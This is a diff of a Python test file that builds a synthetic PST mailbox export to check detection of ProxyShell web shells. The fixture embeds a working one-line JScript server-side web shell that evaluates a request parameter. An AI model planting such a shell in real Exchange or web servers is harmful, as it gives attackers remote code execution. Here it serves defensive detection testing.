@@ -68,7 +68,7 @@ def test_oab_dump_without_script_is_not_a_shell(tmp_path: Path) -> None:
 
 def _pst_shell() -> bytes:
     # A PST header (!BDN, then version and CRC fields), binary blocks, the plaintext page that the
-    # permutative encoding restored, more binary: the ProxyShell mailbox export (indicators.md §9).
+    # permutative encoding restored, more binary: the ProxyShell mailbox export.
     header = b"!BDN" + struct.pack("<IHHH", 0x1A2B3C4D, 0x534D, 23, 19) + bytes(range(256)) * 2
     page = (
         b'<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>'
